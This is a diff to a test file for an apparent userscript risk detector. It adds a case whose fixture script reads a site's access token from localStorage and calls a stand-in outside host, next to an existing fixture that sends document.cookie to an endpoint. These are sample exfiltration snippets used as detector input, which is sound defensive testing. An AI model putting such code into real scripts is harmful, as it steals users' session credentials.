@@ -10,6 +10,15 @@ describe("capability-pair", () => {
 			userscript(["match https://shop.example/*"], `fetch(window.settings.endpoint+"?c="+document.cookie)`),
 		],
 		[
+			"a key of the site, and requests elsewhere",
+			["medium 6"],
+			userscript(
+				["match https://shop.example/*"],
+				`const t=localStorage.getItem("access_token");
+fetch("https://c.stranger.test/ping")`,
+			),
+		],
+		[
 			"storage to an address that is stored",
 			["medium 6"],
 			userscript(
